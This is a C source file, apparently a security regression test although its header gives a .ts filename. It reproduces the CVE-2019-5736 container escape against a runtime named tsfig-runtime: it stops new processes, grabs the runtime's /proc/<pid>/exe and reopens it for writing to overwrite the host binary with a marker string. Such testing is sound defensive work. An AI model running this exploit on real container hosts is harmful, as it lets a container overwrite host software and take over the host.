/* test/security/runtime-exe.test.ts: run as a container's command (with CAP_SYS_PTRACE). Stops every new process of
 * the container's pid namespace at once; one that runs tsfig-runtime (the exec helper's child, before it executes the
 * command: its exe or its argv[0] names tsfig-runtime; a read-only bind of the binary reads "/") has its
 * /proc/<pid>/exe opened read-only (allowed), is killed, and the handle is then reopened for writing through
 * /proc/self/fd/N until that works or 10 s pass: CVE-2019-5736's overwrite of the runtime binary. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

/* 1 when pid's argv[0] names tsfig-runtime. */
static int runs_runtime(pid_t pid)
{
    char path[64], argv0[512] = {0};
    snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
    FILE *f = fopen(path, "r");
    if (f == NULL)
        return 0;
    size_t n = fread(argv0, 1, sizeof argv0 - 1, f);
    fclose(f);
    argv0[n] = '\0';
    return strstr(argv0, "tsfig-runtime") != NULL;
}

static void overwrite(int fd)
{
    char self[64];
    snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
    int err = 0;
    for (int i = 0; i < 200; i++) {
        int w = open(self, O_WRONLY | O_CLOEXEC);
        if (w >= 0) {
            ssize_t n = pwrite(w, "PWNED", 5, 0);
            err = n == 5 ? 0 : errno;
            close(w);
            if (n == 5) {
                puts("WROTE");
                return;
            }
        } else {
            err = errno;
        }
        usleep(50000);
    }
    printf("write failed: %s\n", strerror(err));
}

int main(void)
{
    setvbuf(stdout, NULL, _IONBF, 0);
    pid_t self = getpid(), seen[4096];
    size_t n_seen = 0;
    puts("watching");
    for (;;) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d)) != NULL) {
            pid_t pid = (pid_t)atoi(e->d_name);
            int known = pid <= 0 || pid == self;
            for (size_t i = 0; !known && i < n_seen; i++)
                known = seen[i] == pid;
            if (known)
                continue;
            kill(pid, SIGSTOP);
            char path[64], link[256] = {0};
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            int fd = open(path, O_RDONLY | O_CLOEXEC);
            if (fd < 0 || readlink(path, link, sizeof link - 1) < 0
                || (strstr(link, "tsfig-runtime") == NULL && !runs_runtime(pid))) {
                kill(pid, SIGCONT); /* gone, or already the command */
                if (fd >= 0)
                    close(fd);
                if (n_seen < sizeof seen / sizeof seen[0])
                    seen[n_seen++] = pid;
                continue;
            }
            printf("caught %s\n", link);
            kill(pid, SIGKILL);
            overwrite(fd);
            for (;;)
                pause();
        }
        if (d)
            closedir(d);
    }
}
